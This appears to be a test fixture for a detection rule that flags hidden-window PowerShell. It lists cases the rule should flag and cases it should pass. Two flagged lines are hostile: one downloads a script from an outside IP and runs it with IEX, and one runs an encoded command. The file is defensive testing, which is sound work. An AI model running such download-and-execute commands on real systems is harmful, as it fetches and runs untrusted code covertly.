# ruleid: ps-hidden-window-execution
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
# ruleid: ps-hidden-window-execution
powershell.exe -WindowStyle Hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
# ok: ps-hidden-window-execution
powershell -WindowStyle Hidden -File C:\scripts\backup.ps1
# ok: ps-hidden-window-execution
powershell -NoProfile -Command "Get-Service"
# ok: ps-hidden-window-execution
Start-Process notepad -WindowStyle Hidden
